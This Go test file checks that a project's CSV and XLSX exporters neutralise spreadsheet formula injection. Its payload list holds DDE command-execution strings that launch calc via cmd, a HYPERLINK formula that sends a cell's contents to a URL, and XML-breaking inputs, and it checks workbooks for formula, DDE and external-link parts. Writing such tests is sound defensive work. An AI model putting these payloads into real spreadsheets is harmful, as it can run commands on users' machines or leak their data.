package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"baqylau/assets/lang"
	"baqylau/model"
)

// nasty are texts that would do something in a spreadsheet program, or break the file that they stand in.
func nasty() []string {
	return []string{
		"=1+1", "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1;2)",
		"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠A1",
		"\"=1+1\"", "\"\n=1+1", "a;=1+1", "a\";\"=1+1", "a\n=1+1", "a\r\n=1+1", "a\t=1+1", "'=1+1", "''=1+1", "=", "-", "+7 701 000 00 00",
		"_x003d_1+1", "<f>1+1</f>", "]]><f>1</f>", "</t></is></c><c><f>1</f>", "{=1}", "%=1", "|=1", "DDE(\"cmd\";\"/C calc\";\"1\")", "\x1b[31m", "\xff\xfe",
	}
}

// nastyTable is a table in which every text that people write is nasty, and the last two cells of each row are numbers.
func nastyTable(texts []string) Table {
	t := Table{Title: texts[0], Note: texts[1], Sheet: texts[0], Columns: []Column{{Head: texts[1]}, {Head: "b"}, {Head: "c"}, {Head: "d"}}}
	var rows [][]any
	for _, s := range texts {
		rows = append(rows, []any{s, []string{s, s}, -12, 2.5})
	}
	t.Rows = FromRows(rows)
	return t
}

// TestNoFormulaLeavesAsCSV reads what is written with another reader of CSV than ours: no cell is computed, each text is in its cell,
// and numbers, a negative one too, are bare.
func TestNoFormulaLeavesAsCSV(t *testing.T) {
	for _, sep := range []rune{';', ',', '\t'} {
		var b bytes.Buffer
		require.NoError(t, WriteCSV(t.Context(), &b, nastyTable(nasty()), CSVOptions{Separator: sep}))
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\ufeff"))))
		r.Comma = sep
		records, err := r.ReadAll()
		require.NoError(t, err)
		require.Len(t, records, len(nasty())+1)
		for i, record := range records {
			require.Len(t, record, 4, "%q", record)
			for _, text := range record[:2] {
				require.False(t, model.IsFormula(text), "%q", text)
				require.Equal(t, model.Seen(text), text)
			}
			if i > 0 {
				require.Equal(t, []string{"-12", "2,5"}, record[2:])
			}
		}
	}
}

// TestNoFormulaLeavesAsXLSX looks into the parts of the workbook, and at what another reader makes of it: texts are texts, without a
// formula, a link or a part outside, and numbers are numbers.
func TestNoFormulaLeavesAsXLSX(t *testing.T) {
	var b, filled bytes.Buffer
	require.NoError(t, WriteXLSX(t.Context(), &b, nastyTable(nasty()), nastyTable(nasty())))
	noFormulas(t, b.Bytes())
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	require.NoError(t, err)
	defer f.Close()
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		require.Len(t, rows, len(nasty())+3)
		for i, row := range rows[3:] {
			require.Equal(t, []string{"-12", "2.5"}, row[2:4], "%q", nasty()[i])
			for c, letter := range []string{"A", "B", "C", "D"} {
				kind, err := f.GetCellType(name, letter+strconv.Itoa(i+4))
				require.NoError(t, err)
				text := kind == excelize.CellTypeInlineString || kind == excelize.CellTypeSharedString
				require.Equal(t, c < 2, text, "%s%d is of type %d", letter, i+4, kind)
			}
		}
	}
	choices := map[model.Column][]string{}
	for _, col := range model.SheetVisits.Spec().Columns {
		choices[col.ID] = nasty()
	}
	require.NoError(t, Template(&filled, model.SheetVisits, lang.For(model.Russian), choices))
	noFormulas(t, filled.Bytes())
}

// noFormulas fails where a workbook computes, or leads out of itself, and where a part is no XML.
func noFormulas(t *testing.T, data []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	for _, part := range z.File {
		require.False(t, strings.Contains(part.Name, "..") || strings.Contains(part.Name, `\`) || strings.HasPrefix(part.Name, "/"), part.Name)
		require.NotContains(t, part.Name, "externalLink")
		r, err := part.Open()
		require.NoError(t, err)
		text, err := io.ReadAll(r)
		require.NoError(t, err)
		require.NoError(t, r.Close())
		require.True(t, utf8.Valid(text), part.Name)
		d := xml.NewDecoder(bytes.NewReader(text))
		for {
			token, err := d.Token()
			if err == io.EOF {
				break
			}
			require.NoError(t, err, part.Name)
			if e, ok := token.(xml.StartElement); ok {
				require.NotContains(t, []string{"f", "hyperlink", "definedName", "oleObject", "ddeLink"}, e.Name.Local, part.Name)
				for _, a := range e.Attr {
					require.NotEqual(t, "External", a.Value, part.Name)
				}
			}
		}
	}
}
